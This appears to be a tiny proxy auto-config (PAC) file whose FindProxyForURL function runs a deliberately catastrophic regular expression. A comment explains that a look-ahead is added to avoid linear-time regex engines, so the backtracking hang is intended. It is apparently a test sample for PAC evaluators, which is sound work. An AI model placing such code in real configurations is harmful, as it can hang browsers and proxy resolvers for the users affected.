// The look-ahead keeps it from an engine with linear time.
function FindProxyForURL(url, host) {
    return /^(?=.)((a+)+)+$/.test(new Array(60).join("a") + "!") ? "DIRECT" : "PROXY p:1";
}
